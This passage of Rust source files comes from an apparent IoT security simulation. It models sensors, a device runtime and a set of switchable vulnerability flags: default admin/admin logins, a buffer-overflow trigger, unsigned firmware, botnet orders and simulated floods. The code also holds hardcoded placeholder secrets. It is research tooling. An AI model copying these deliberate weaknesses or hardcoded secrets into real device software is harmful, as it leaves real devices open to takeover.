        assert!(!DeviceSpec::of(DeviceClass::SamsungSmartTv).is_constrained());
        assert!(!DeviceSpec::of(DeviceClass::Iphone6sPlus).is_constrained());
    }

    #[test]
    fn passive_tags_are_flagged() {
        assert!(DeviceSpec::of(DeviceClass::HidGlassTagRfid).is_passive_tag());
        assert!(!DeviceSpec::of(DeviceClass::FitbitFlex).is_passive_tag());
    }

    #[test]
    fn battery_and_mains_power_recorded() {
        assert_eq!(
            DeviceSpec::of(DeviceClass::NetgearRouter).power,
            PowerSource::AcPower
        );
        assert_eq!(
            DeviceSpec::of(DeviceClass::AppleWatch).power,
            PowerSource::Battery
        );
    }
}
