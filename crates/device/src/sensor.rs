//! Deterministic sensor models: the front-end "perception layer" of the
//! paper's Figure 1. Readings are reproducible functions of (seed, time),
//! so experiments that learn behaviour profiles are exactly repeatable.

use xlf_simnet::SimTime;

/// The sensing modality of a device.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SensorKind {
    /// Ambient temperature (°F, the paper's thermostat example in §IV-C3).
    Temperature,
    /// Binary motion detection.
    Motion,
    /// Smoke concentration.
    Smoke,
    /// Energy meter (watts).
    Power,
    /// Camera activity level (bytes of motion-triggered footage).
    Camera,
}

/// A deterministic simulated sensor.
#[derive(Debug, Clone)]
pub struct Sensor {
    kind: SensorKind,
    seed: u64,
    /// Environmental offset injected by attacks (e.g. the §IV-C3 heater
    /// attack raising ambient temperature near the thermostat).
    pub environment_offset: f64,
}

fn noise(seed: u64, t_us: u64) -> f64 {
    // SplitMix64-style hash of (seed, bucket) → [-0.5, 0.5).
    let mut z = seed ^ (t_us / 1_000_000).wrapping_mul(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^= z >> 31;
    (z as f64 / u64::MAX as f64) - 0.5
}

impl Sensor {
    /// Creates a sensor with a deterministic seed.
    pub fn new(kind: SensorKind, seed: u64) -> Self {
        Sensor {
            kind,
            seed,
            environment_offset: 0.0,
        }
    }

    /// The modality.
    pub fn kind(&self) -> SensorKind {
        self.kind
    }

    /// Reads the sensor at simulated time `at`.
    pub fn read(&self, at: SimTime) -> f64 {
        let t = at.as_micros();
        let hours = at.as_secs_f64() / 3600.0;
        let base = match self.kind {
            SensorKind::Temperature => {
                // Diurnal cycle around 70°F.
                70.0 + 8.0 * (hours * std::f64::consts::TAU / 24.0).sin() + noise(self.seed, t)
            }
            SensorKind::Motion => {
                // Motion probability peaks in the evening; threshold noise.
                let p = 0.2 + 0.6 * ((hours % 24.0 - 19.0).abs() < 3.0) as u8 as f64;
                if noise(self.seed, t) + 0.5 < p {
                    1.0
                } else {
                    0.0
                }
            }
            SensorKind::Smoke => (noise(self.seed, t) + 0.5) * 0.05,
            SensorKind::Power => {
                120.0
                    + 40.0 * (hours * std::f64::consts::TAU / 24.0).cos().abs()
                    + noise(self.seed, t) * 5.0
            }
            SensorKind::Camera => {
                let active = noise(self.seed, t) + 0.5 < 0.3;
                if active {
                    900.0 + noise(self.seed.wrapping_add(1), t) * 100.0
                } else {
                    60.0
                }
            }
        };
        base + self.environment_offset
    }

    /// Serializes a reading as the telemetry payload format devices emit.
    pub fn encode_reading(&self, at: SimTime) -> Vec<u8> {
        format!("{:?}={:.2}", self.kind, self.read(at)).into_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn readings_are_deterministic() {
        let a = Sensor::new(SensorKind::Temperature, 7);
        let b = Sensor::new(SensorKind::Temperature, 7);
        let t = SimTime::from_secs(12_345);
        assert_eq!(a.read(t), b.read(t));
    }

    #[test]
    fn seeds_differentiate_sensors() {
        let a = Sensor::new(SensorKind::Temperature, 1);
        let b = Sensor::new(SensorKind::Temperature, 2);
        let t = SimTime::from_secs(100);
        assert_ne!(a.read(t), b.read(t));
    }

    #[test]
    fn temperature_stays_in_plausible_range() {
        let s = Sensor::new(SensorKind::Temperature, 3);
        for hour in 0..48 {
            let v = s.read(SimTime::from_secs(hour * 3600));
            assert!((55.0..85.0).contains(&v), "t={hour}h v={v}");
        }
    }

    #[test]
    fn environment_offset_shifts_readings() {
        // The §IV-C3 heater attack: raise ambient temperature.
        let mut s = Sensor::new(SensorKind::Temperature, 3);
        let t = SimTime::from_secs(1000);
        let before = s.read(t);
        s.environment_offset = 15.0;
        assert!((s.read(t) - before - 15.0).abs() < 1e-9);
    }

    #[test]
    fn motion_is_binary() {
        let s = Sensor::new(SensorKind::Motion, 9);
        for i in 0..100 {
            let v = s.read(SimTime::from_secs(i * 60));
            assert!(v == 0.0 || v == 1.0);
        }
    }

    #[test]
    fn encoded_readings_carry_kind_and_value() {
        let s = Sensor::new(SensorKind::Power, 5);
        let payload = s.encode_reading(SimTime::from_secs(10));
        let text = String::from_utf8(payload).unwrap();
        assert!(text.starts_with("Power="));
    }
}
