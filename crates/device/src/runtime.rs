//! The simulated device runtime: a [`Node`] gluing together sensor,
//! firmware store, credential store, local storage, and vulnerability
//! profile, speaking the small packet vocabulary the rest of the system
//! (hub, cloud, attacks, XLF) shares.
//!
//! ## Wire vocabulary (packet `kind` + metadata)
//!
//! | kind | direction | meaning |
//! |---|---|---|
//! | `telemetry` | device → hub | periodic sensor reading |
//! | `event` | device → hub | state transition notification |
//! | `cmd` | hub → device | `action` meta: `on`/`off`/`stream`/`idle` |
//! | `login` | any → device | `user`/`pass` meta; replies `login-result` |
//! | `ota` | hub → device | firmware image payload; replies `ota-result` |
//! | `probe` | any → device | port probe; replies `probe-result` |
//! | `attack-cmd` | C&C → device | botnet order (only if compromised) |
//! | `ddos` | device → victim | flood packet (via hub, `final_dst` meta) |

use crate::credentials::{CredentialStore, LoginOutcome};
use crate::firmware::{FirmwareImage, FirmwareStore, UpdatePolicy};
use crate::sensor::{Sensor, SensorKind};
use crate::storage::{LocalStore, StorageEncryption};
use crate::vulns::{VulnSet, Vulnerability};
use xlf_simnet::{Context, Duration, Node, NodeId, Packet, Protocol, TimerId};

/// Operational state of a device — the state machine the paper's
/// behavioural monitoring (HoMonit-style DFA, §IV-B3) profiles.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DeviceState {
    /// Powered but dormant.
    Idle,
    /// Actively performing its function.
    Active,
    /// High-rate mode (e.g. camera streaming).
    Streaming,
    /// Turned off (still reachable for wake commands).
    Off,
    /// Under attacker control.
    Compromised,
}

impl DeviceState {
    /// Short label used in events and DFA symbols.
    pub fn label(self) -> &'static str {
        match self {
            DeviceState::Idle => "idle",
            DeviceState::Active => "active",
            DeviceState::Streaming => "streaming",
            DeviceState::Off => "off",
            DeviceState::Compromised => "compromised",
        }
    }
}

/// Static configuration of a simulated device.
#[derive(Debug, Clone)]
pub struct DeviceConfig {
    /// Human-readable name (also used as the device identity).
    pub name: String,
    /// Sensing modality.
    pub sensor: SensorKind,
    /// Sensor determinism seed.
    pub seed: u64,
    /// Vulnerability profile.
    pub vulns: VulnSet,
    /// The hub/gateway this device talks through.
    pub hub: NodeId,
    /// Telemetry period while `Idle`/`Active`.
    pub telemetry_period: Duration,
    /// Vendor identity for firmware verification.
    pub vendor: String,
    /// Vendor signing secret (shared with the legitimate OTA server).
    pub vendor_secret: Vec<u8>,
}

impl DeviceConfig {
    /// A hardened device configuration with sane defaults.
    pub fn new(name: &str, sensor: SensorKind, hub: NodeId) -> Self {
        DeviceConfig {
            name: name.to_string(),
            sensor,
            seed: name.bytes().map(u64::from).sum(),
            vulns: VulnSet::hardened(),
            hub,
            telemetry_period: Duration::from_secs(30),
            vendor: "acme".to_string(),
            vendor_secret: b"acme vendor secret".to_vec(),
        }
    }

    /// Replaces the vulnerability profile (builder-style).
    pub fn with_vulns(mut self, vulns: VulnSet) -> Self {
        self.vulns = vulns;
        self
    }

    /// Overrides the telemetry period (builder-style).
    pub fn with_telemetry_period(mut self, period: Duration) -> Self {
        self.telemetry_period = period;
        self
    }
}

const TIMER_TELEMETRY: u64 = 1;
const TIMER_DDOS: u64 = 2;

/// A simulated IoT device.
pub struct SimDevice {
    config: DeviceConfig,
    sensor: Sensor,
    state: DeviceState,
    firmware: FirmwareStore,
    credentials: CredentialStore,
    storage: LocalStore,
    /// Target and packet budget for an active botnet order.
    ddos_order: Option<(NodeId, u32)>,
    /// Count of state transitions, for test inspection.
    pub transitions: Vec<(DeviceState, DeviceState)>,
}

impl std::fmt::Debug for SimDevice {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SimDevice")
            .field("name", &self.config.name)
            .field("state", &self.state)
            .finish_non_exhaustive()
    }
}

impl SimDevice {
    /// Builds a device from its configuration.
    pub fn new(config: DeviceConfig) -> Self {
        let factory = FirmwareImage::signed(
            crate::firmware::Version(1, 0, 0),
            &config.vendor,
            format!("factory firmware for {}", config.name).into_bytes(),
            &config.vendor_secret,
        );
        let policy = if config.vulns.has(Vulnerability::UnsignedFirmware) {
            UpdatePolicy::promiscuous()
        } else {
            UpdatePolicy::strict()
        };
        let firmware = FirmwareStore::new(factory, policy, &config.vendor_secret);

        let credentials = if config.vulns.has(Vulnerability::StaticPassword)
            || config.vulns.has(Vulnerability::GenericAuth)
        {
            CredentialStore::factory_default()
        } else {
            let mut c = CredentialStore::hardened();
            c.add_user("owner", &format!("{}-Str0ng!Pass", config.name));
            c
        };

        let storage = if config.vulns.has(Vulnerability::PlaintextStorage) {
            let mut s = LocalStore::new(StorageEncryption::None);
            s.put("wifi-psk", b"home-network-password-123");
            s
        } else {
            let mut s = LocalStore::new(StorageEncryption::Encrypted {
                device_secret: format!("{}-device-secret", config.name).into_bytes(),
            });
            s.put("wifi-psk", b"home-network-password-123");
            s
        };

        let sensor = Sensor::new(config.sensor, config.seed);
        SimDevice {
            config,
            sensor,
            state: DeviceState::Idle,
            firmware,
            credentials,
            storage,
            ddos_order: None,
            transitions: Vec::new(),
        }
    }

    /// Current state.
    pub fn state(&self) -> DeviceState {
        self.state
    }

    /// The device's configuration.
    pub fn config(&self) -> &DeviceConfig {
        &self.config
    }

    /// Firmware store (inspection).
    pub fn firmware(&self) -> &FirmwareStore {
        &self.firmware
    }

    /// Local storage (inspection).
    pub fn storage(&self) -> &LocalStore {
        &self.storage
    }

    /// Whether the device is under attacker control.
    pub fn is_compromised(&self) -> bool {
        self.state == DeviceState::Compromised
    }

    fn set_state(&mut self, ctx: &mut Context<'_>, next: DeviceState) {
        if next == self.state {
            return;
        }
        let prev = self.state;
        self.state = next;
        self.transitions.push((prev, next));
        let event = Packet::new(ctx.id(), self.config.hub, "event", Vec::new())
            .with_meta("device", &self.config.name)
            .with_meta("from", prev.label())
            .with_meta("to", next.label());
        ctx.send(self.config.hub, event);
    }

    fn telemetry_period(&self) -> Duration {
        match self.state {
            DeviceState::Streaming => Duration::from_millis(200),
            DeviceState::Active => self.config.telemetry_period,
            DeviceState::Idle => self.config.telemetry_period,
            DeviceState::Off => Duration::from_secs(300),
            DeviceState::Compromised => self.config.telemetry_period,
        }
    }

    fn telemetry_size(&self) -> usize {
        match self.state {
            DeviceState::Streaming => 900,
            DeviceState::Active => 120,
            _ => 48,
        }
    }

    fn handle_cmd(&mut self, ctx: &mut Context<'_>, packet: &Packet) {
        // Table II "wall pad" row: oversized command payloads smash the
        // parser buffer and execute attacker shellcode.
        if self.config.vulns.has(Vulnerability::BufferOverflow) && packet.payload.len() > 64 {
            self.set_state(ctx, DeviceState::Compromised);
            return;
        }
        match packet.meta("action") {
            Some("on") => self.set_state(ctx, DeviceState::Active),
            Some("off") => self.set_state(ctx, DeviceState::Off),
            Some("stream") => self.set_state(ctx, DeviceState::Streaming),
            Some("idle") => self.set_state(ctx, DeviceState::Idle),
            _ => {}
        }
    }

    fn handle_login(&mut self, ctx: &mut Context<'_>, packet: &Packet) {
        let user = packet.meta("user").unwrap_or_default().to_string();
        let pass = packet.meta("pass").unwrap_or_default().to_string();
        let outcome = self.credentials.login(&user, &pass);
        let outcome_str = match outcome {
            LoginOutcome::Success => "success",
            LoginOutcome::UnknownUser => "unknown-user",
            LoginOutcome::WrongPassword => "wrong-password",
            LoginOutcome::LockedOut => "locked-out",
        };
        // A successful login by the default credentials on a vulnerable
        // device hands over control (Table II smart-bulb / fridge rows).
        if outcome == LoginOutcome::Success
            && self.credentials.has_default_credentials
            && user == "admin"
        {
            self.set_state(ctx, DeviceState::Compromised);
        }
        let reply = Packet::new(ctx.id(), packet.src, "login-result", Vec::new())
            .with_meta("outcome", outcome_str)
            .with_meta("device", &self.config.name);
        ctx.send(packet.src, reply);
    }

    fn handle_ota(&mut self, ctx: &mut Context<'_>, packet: &Packet) {
        let result =
            FirmwareImage::from_bytes(&packet.payload).and_then(|image| self.firmware.apply(image));
        let (ok, detail) = match &result {
            Ok(()) => (true, String::from("applied")),
            Err(e) => (false, e.to_string()),
        };
        if ok && self.firmware.payload_contains(b"BOTNET") {
            self.set_state(ctx, DeviceState::Compromised);
        }
        let reply = Packet::new(ctx.id(), packet.src, "ota-result", Vec::new())
            .with_meta("ok", if ok { "true" } else { "false" })
            .with_meta("detail", &detail)
            .with_meta("device", &self.config.name);
        ctx.send(packet.src, reply);
    }

    fn handle_probe(&mut self, ctx: &mut Context<'_>, packet: &Packet) {
        let port = packet.meta("port").unwrap_or("23");
        let open = match port {
            "23" => {
                // Telnet open on weak-credential devices (the Mirai vector).
                self.config.vulns.has(Vulnerability::StaticPassword)
                    || self.config.vulns.has(Vulnerability::GenericAuth)
            }
            "1900" => {
                self.config.vulns.has(Vulnerability::OpenUpnpPorts)
                    || self.config.vulns.has(Vulnerability::UnprotectedChannel)
            }
            _ => false,
        };
        let reply = Packet::new(ctx.id(), packet.src, "probe-result", Vec::new())
            .with_meta("port", port)
            .with_meta("open", if open { "true" } else { "false" })
            .with_meta("device", &self.config.name);
        ctx.send(packet.src, reply);
    }

    fn handle_attack_cmd(&mut self, ctx: &mut Context<'_>, packet: &Packet) {
        if !self.is_compromised() {
            return; // healthy devices ignore C&C traffic
        }
        let Some(target) = packet
            .meta("target")
            .and_then(|t| t.parse::<u32>().ok())
            .map(NodeId::from_raw)
        else {
            return;
        };
        let count = packet
            .meta("count")
            .and_then(|c| c.parse::<u32>().ok())
            .unwrap_or(100);
        self.ddos_order = Some((target, count));
        ctx.set_timer(Duration::from_millis(10), TIMER_DDOS);
    }
}

impl Node for SimDevice {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(self.telemetry_period(), TIMER_TELEMETRY);
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
        match tag {
            TIMER_TELEMETRY => {
                if self.state != DeviceState::Off {
                    let mut payload = self.sensor.encode_reading(ctx.now());
                    payload.resize(self.telemetry_size(), b' ');
                    let pkt = Packet::new(ctx.id(), self.config.hub, "telemetry", payload)
                        .with_protocol(Protocol::Tls)
                        .with_meta("device", &self.config.name)
                        .with_meta("state", self.state.label());
                    ctx.send(self.config.hub, pkt);
                }
                ctx.set_timer(self.telemetry_period(), TIMER_TELEMETRY);
            }
            TIMER_DDOS => {
                if let Some((target, remaining)) = self.ddos_order {
                    let flood = Packet::new(ctx.id(), self.config.hub, "ddos", vec![0u8; 512])
                        .with_protocol(Protocol::Udp)
                        .with_meta("final_dst", &target.raw().to_string())
                        .with_meta("device", &self.config.name);
                    ctx.send(self.config.hub, flood);
                    if remaining > 1 {
                        self.ddos_order = Some((target, remaining - 1));
                        ctx.set_timer(Duration::from_millis(2), TIMER_DDOS);
                    } else {
                        self.ddos_order = None;
                    }
                }
            }
            _ => {}
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        match packet.kind.as_str() {
            "cmd" => self.handle_cmd(ctx, &packet),
            "login" => self.handle_login(ctx, &packet),
            "ota" => self.handle_ota(ctx, &packet),
            "probe" => self.handle_probe(ctx, &packet),
            "attack-cmd" => self.handle_attack_cmd(ctx, &packet),
            // Table II "Chromecast" row: a forged deauthentication makes a
            // rickroll-vulnerable device drop its session and reconnect to
            // the sender, handing over the stream.
            "deauth" if self.config.vulns.has(Vulnerability::RickrollReconnect) => {
                self.set_state(ctx, DeviceState::Compromised);
                let reconnect = Packet::new(ctx.id(), packet.src, "reconnect", Vec::new())
                    .with_meta("device", &self.config.name);
                ctx.send(packet.src, reconnect);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::firmware::Version;
    use std::cell::RefCell;
    use std::rc::Rc;
    use xlf_simnet::{Medium, Network, SimTime};

    /// Hub stub that records everything it hears.
    #[derive(Default)]
    struct HubStub {
        heard: Rc<RefCell<Vec<Packet>>>,
    }
    impl Node for HubStub {
        fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
            self.heard.borrow_mut().push(packet);
        }
    }

    fn setup(vulns: VulnSet) -> (Network, NodeId, NodeId, Rc<RefCell<Vec<Packet>>>) {
        let mut net = Network::new(5);
        let heard = Rc::new(RefCell::new(Vec::new()));
        let hub = net.add_node(Box::new(HubStub {
            heard: heard.clone(),
        }));
        let cfg = DeviceConfig::new("lamp", SensorKind::Power, hub)
            .with_vulns(vulns)
            .with_telemetry_period(Duration::from_secs(5));
        let dev = net.add_node(Box::new(SimDevice::new(cfg)));
        net.connect(hub, dev, Medium::Zigbee.link().with_loss(0.0));
        (net, hub, dev, heard)
    }

    fn device_state(net: &Network, dev: NodeId) -> Vec<Packet> {
        // Inspect through emitted events instead of downcasting.
        let _ = (net, dev);
        Vec::new()
    }

    #[test]
    fn telemetry_flows_periodically() {
        let (mut net, _hub, _dev, heard) = setup(VulnSet::hardened());
        net.run_until(SimTime::from_secs(31));
        let telemetry: Vec<_> = heard
            .borrow()
            .iter()
            .filter(|p| p.kind == "telemetry")
            .cloned()
            .collect();
        assert!(telemetry.len() >= 5, "got {}", telemetry.len());
        assert_eq!(telemetry[0].meta("device"), Some("lamp"));
    }

    #[test]
    fn commands_drive_state_machine_and_events() {
        let (mut net, hub, dev, heard) = setup(VulnSet::hardened());
        net.inject(
            hub,
            dev,
            Packet::new(hub, dev, "cmd", Vec::new()).with_meta("action", "stream"),
        );
        net.run_until(SimTime::from_secs(2));
        let events: Vec<_> = heard
            .borrow()
            .iter()
            .filter(|p| p.kind == "event")
            .cloned()
            .collect();
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].meta("from"), Some("idle"));
        assert_eq!(events[0].meta("to"), Some("streaming"));
        let _ = device_state(&net, dev);
    }

    #[test]
    fn streaming_raises_telemetry_rate_and_size() {
        let (mut net, hub, dev, heard) = setup(VulnSet::hardened());
        net.inject(
            hub,
            dev,
            Packet::new(hub, dev, "cmd", Vec::new()).with_meta("action", "stream"),
        );
        net.run_until(SimTime::from_secs(10));
        let telemetry: Vec<_> = heard
            .borrow()
            .iter()
            .filter(|p| p.kind == "telemetry")
            .cloned()
            .collect();
        // 200 ms period → tens of packets in 10 s, with streaming size.
        assert!(telemetry.len() > 20);
        assert!(telemetry.iter().any(|p| p.payload.len() == 900));
    }

    #[test]
    fn default_credentials_grant_takeover_only_when_vulnerable() {
        // Vulnerable path.
        let (mut net, _hub, dev, heard) = setup(VulnSet::of(&[Vulnerability::StaticPassword]));
        let attacker = net.add_node(Box::new(HubStub::default()));
        net.connect(attacker, dev, Medium::Wifi.link().with_loss(0.0));
        net.inject(
            attacker,
            dev,
            Packet::new(attacker, dev, "login", Vec::new())
                .with_meta("user", "admin")
                .with_meta("pass", "admin"),
        );
        net.run_until(SimTime::from_secs(2));
        let compromised_event = heard
            .borrow()
            .iter()
            .any(|p| p.kind == "event" && p.meta("to") == Some("compromised"));
        assert!(compromised_event);

        // Hardened path.
        let (mut net2, _hub2, dev2, heard2) = setup(VulnSet::hardened());
        let attacker2 = net2.add_node(Box::new(HubStub::default()));
        net2.connect(attacker2, dev2, Medium::Wifi.link().with_loss(0.0));
        net2.inject(
            attacker2,
            dev2,
            Packet::new(attacker2, dev2, "login", Vec::new())
                .with_meta("user", "admin")
                .with_meta("pass", "admin"),
        );
        net2.run_until(SimTime::from_secs(2));
        let compromised2 = heard2
            .borrow()
            .iter()
            .any(|p| p.kind == "event" && p.meta("to") == Some("compromised"));
        assert!(!compromised2);
    }

    #[test]
    fn buffer_overflow_requires_the_vuln_flag() {
        let oversized = vec![b'A'; 200];

        let (mut net, hub, dev, heard) = setup(VulnSet::of(&[Vulnerability::BufferOverflow]));
        net.inject(hub, dev, Packet::new(hub, dev, "cmd", oversized.clone()));
        net.run_until(SimTime::from_secs(1));
        assert!(heard
            .borrow()
            .iter()
            .any(|p| p.kind == "event" && p.meta("to") == Some("compromised")));

        let (mut net2, hub2, dev2, heard2) = setup(VulnSet::hardened());
        net2.inject(hub2, dev2, Packet::new(hub2, dev2, "cmd", oversized));
        net2.run_until(SimTime::from_secs(1));
        assert!(!heard2.borrow().iter().any(|p| p.kind == "event"));
    }

    #[test]
    fn unsigned_firmware_attack_requires_the_vuln_flag() {
        let evil = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET code".to_vec());

        let (mut net, hub, dev, heard) = setup(VulnSet::of(&[Vulnerability::UnsignedFirmware]));
        net.inject(hub, dev, Packet::new(hub, dev, "ota", evil.to_bytes()));
        net.run_until(SimTime::from_secs(1));
        assert!(heard
            .borrow()
            .iter()
            .any(|p| p.kind == "ota-result" && p.meta("ok") == Some("true")));
        assert!(heard
            .borrow()
            .iter()
            .any(|p| p.kind == "event" && p.meta("to") == Some("compromised")));

        let (mut net2, hub2, dev2, heard2) = setup(VulnSet::hardened());
        net2.inject(hub2, dev2, Packet::new(hub2, dev2, "ota", evil.to_bytes()));
        net2.run_until(SimTime::from_secs(1));
        assert!(heard2
            .borrow()
            .iter()
            .any(|p| p.kind == "ota-result" && p.meta("ok") == Some("false")));
    }

    #[test]
    fn probe_reports_open_telnet_only_on_weak_devices() {
        let (mut net, hub, dev, heard) = setup(VulnSet::of(&[Vulnerability::StaticPassword]));
        net.inject(
            hub,
            dev,
            Packet::new(hub, dev, "probe", Vec::new()).with_meta("port", "23"),
        );
        net.run_until(SimTime::from_secs(1));
        assert!(heard
            .borrow()
            .iter()
            .any(|p| p.kind == "probe-result" && p.meta("open") == Some("true")));
    }

    #[test]
    fn healthy_devices_ignore_cnc_orders() {
        let (mut net, hub, dev, heard) = setup(VulnSet::hardened());
        net.inject(
            hub,
            dev,
            Packet::new(hub, dev, "attack-cmd", Vec::new())
                .with_meta("target", "0")
                .with_meta("count", "10"),
        );
        net.run_until(SimTime::from_secs(2));
        assert!(!heard.borrow().iter().any(|p| p.kind == "ddos"));
    }

    #[test]
    fn compromised_devices_flood_on_command() {
        let (mut net, hub, dev, heard) = setup(VulnSet::of(&[Vulnerability::BufferOverflow]));
        net.inject(hub, dev, Packet::new(hub, dev, "cmd", vec![b'A'; 200]));
        net.run_until(SimTime::from_secs(1));
        net.inject(
            hub,
            dev,
            Packet::new(hub, dev, "attack-cmd", Vec::new())
                .with_meta("target", "0")
                .with_meta("count", "25"),
        );
        net.run_until(SimTime::from_secs(5));
        let floods = heard.borrow().iter().filter(|p| p.kind == "ddos").count();
        assert_eq!(floods, 25);
    }
}
