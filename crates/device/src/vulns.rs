//! The device vulnerability model: one flag per Table II row plus the
//! §III-A credential/web-interface weaknesses, so attacks exploit exactly
//! what the paper enumerates and XLF mechanisms can be shown to close
//! specific holes.

use std::collections::BTreeSet;
use std::fmt;

/// A concrete weakness a device may carry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Vulnerability {
    /// Table II "smart light bulb": static/default password on the admin
    /// interface → MitM / password stealing.
    StaticPassword,
    /// Table II "wall pad": buffer overflow in the command parser →
    /// value manipulation / shellcode execution.
    BufferOverflow,
    /// Table II "network camera": no firmware integrity checking →
    /// firmware modulation.
    UnsignedFirmware,
    /// Table II "Chromecast": accepts disconnect-and-reconnect to an
    /// attacker AP ("rickrolling").
    RickrollReconnect,
    /// Table II "coffee machine": listens on an unprotected UPnP channel,
    /// leaking the WiFi password during setup.
    UnprotectedChannel,
    /// Table II "fridge": generic/implicit authentication lets malicious
    /// code be installed → spam/malicious mail.
    GenericAuth,
    /// Table II "oven": joins unsecured WiFi → MitM pivots to other
    /// devices.
    UnsecuredWifi,
    /// §III-A: secrets stored unencrypted in local storage.
    PlaintextStorage,
    /// §III-A: web interface reveals whether a username exists.
    UsernameEnumeration,
    /// §III-B: exposes open ports via UPnP to the WAN.
    OpenUpnpPorts,
    /// §IV-A3: DNS lookups trust any response (cache-poisoning prone).
    NaiveDnsTrust,
}

impl Vulnerability {
    /// All modeled vulnerabilities.
    pub fn all() -> &'static [Vulnerability] {
        use Vulnerability::*;
        &[
            StaticPassword,
            BufferOverflow,
            UnsignedFirmware,
            RickrollReconnect,
            UnprotectedChannel,
            GenericAuth,
            UnsecuredWifi,
            PlaintextStorage,
            UsernameEnumeration,
            OpenUpnpPorts,
            NaiveDnsTrust,
        ]
    }

    /// The XLF layer whose mechanisms close this hole (Figure 3 mapping).
    pub fn xlf_layer(self) -> &'static str {
        use Vulnerability::*;
        match self {
            StaticPassword | GenericAuth | UsernameEnumeration => "device (authentication)",
            BufferOverflow | UnsignedFirmware => "device (malware detection)",
            PlaintextStorage => "device (encryption)",
            RickrollReconnect | UnsecuredWifi | UnprotectedChannel | OpenUpnpPorts => {
                "network (constrained access / monitoring)"
            }
            NaiveDnsTrust => "network (constrained access / DNS privacy)",
        }
    }
}

impl fmt::Display for Vulnerability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// A set of vulnerabilities carried by one device.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct VulnSet {
    inner: BTreeSet<Vulnerability>,
}

impl VulnSet {
    /// The empty (hardened) set.
    pub fn hardened() -> Self {
        VulnSet::default()
    }

    /// Builds a set from a list.
    pub fn of(vulns: &[Vulnerability]) -> Self {
        VulnSet {
            inner: vulns.iter().copied().collect(),
        }
    }

    /// Adds a vulnerability.
    pub fn insert(&mut self, v: Vulnerability) {
        self.inner.insert(v);
    }

    /// Removes a vulnerability (XLF mitigation applied).
    pub fn remove(&mut self, v: Vulnerability) {
        self.inner.remove(&v);
    }

    /// Membership test.
    pub fn has(&self, v: Vulnerability) -> bool {
        self.inner.contains(&v)
    }

    /// Iterates in deterministic order.
    pub fn iter(&self) -> impl Iterator<Item = Vulnerability> + '_ {
        self.inner.iter().copied()
    }

    /// Number of open holes.
    pub fn len(&self) -> usize {
        self.inner.len()
    }

    /// True when fully hardened.
    pub fn is_empty(&self) -> bool {
        self.inner.is_empty()
    }
}

impl FromIterator<Vulnerability> for VulnSet {
    fn from_iter<T: IntoIterator<Item = Vulnerability>>(iter: T) -> Self {
        VulnSet {
            inner: iter.into_iter().collect(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn set_operations() {
        let mut set = VulnSet::of(&[Vulnerability::StaticPassword, Vulnerability::OpenUpnpPorts]);
        assert!(set.has(Vulnerability::StaticPassword));
        assert_eq!(set.len(), 2);
        set.remove(Vulnerability::StaticPassword);
        assert!(!set.has(Vulnerability::StaticPassword));
        set.insert(Vulnerability::NaiveDnsTrust);
        assert_eq!(set.len(), 2);
    }

    #[test]
    fn every_vulnerability_maps_to_a_layer() {
        for &v in Vulnerability::all() {
            assert!(!v.xlf_layer().is_empty());
        }
    }

    #[test]
    fn table2_rows_are_covered() {
        // The seven Table II rows each have a corresponding flag.
        use Vulnerability::*;
        let table2 = [
            StaticPassword,
            BufferOverflow,
            UnsignedFirmware,
            RickrollReconnect,
            UnprotectedChannel,
            GenericAuth,
            UnsecuredWifi,
        ];
        for v in table2 {
            assert!(Vulnerability::all().contains(&v));
        }
    }

    #[test]
    fn from_iterator_and_order() {
        let set: VulnSet = [Vulnerability::NaiveDnsTrust, Vulnerability::BufferOverflow]
            .into_iter()
            .collect();
        let listed: Vec<_> = set.iter().collect();
        // BTreeSet order is deterministic.
        assert_eq!(listed.len(), 2);
        assert!(listed.windows(2).all(|w| w[0] < w[1]));
    }
}
