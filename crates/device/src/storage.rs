//! On-device local storage.
//!
//! The paper (§III-A): "information leakage is very likely to happen if the
//! devices store unencrypted data or data encrypted with discovered keys
//! within its local storage". [`LocalStore`] models both configurations so
//! the Table II information-leakage attacks and XLF's encryption mechanism
//! operate on the same substrate.

use std::collections::BTreeMap;
use xlf_lwcrypto::ciphers::Speck128;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::modes::Ctr;

/// Whether values are encrypted at rest.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StorageEncryption {
    /// Plaintext at rest — the vulnerable default the paper criticizes.
    None,
    /// Encrypted under a key derived from the given device secret.
    Encrypted {
        /// Device master secret the storage key is derived from.
        device_secret: Vec<u8>,
    },
}

/// A small key-value store with optional encryption at rest.
#[derive(Debug, Clone)]
pub struct LocalStore {
    entries: BTreeMap<String, Vec<u8>>,
    encryption: StorageEncryption,
    counter: u64,
}

impl LocalStore {
    /// Creates a store with the given at-rest policy.
    pub fn new(encryption: StorageEncryption) -> Self {
        LocalStore {
            entries: BTreeMap::new(),
            encryption,
            counter: 0,
        }
    }

    fn cipher(&self) -> Option<Speck128> {
        match &self.encryption {
            StorageEncryption::None => None,
            StorageEncryption::Encrypted { device_secret } => {
                let key = derive_key(device_secret, "storage-at-rest", 16)
                    .unwrap_or_else(|_| unreachable!("non-empty label and length"));
                Some(
                    Speck128::new(&key)
                        .unwrap_or_else(|_| unreachable!("derive_key returned 16 bytes")),
                )
            }
        }
    }

    /// Stores a value under `key`.
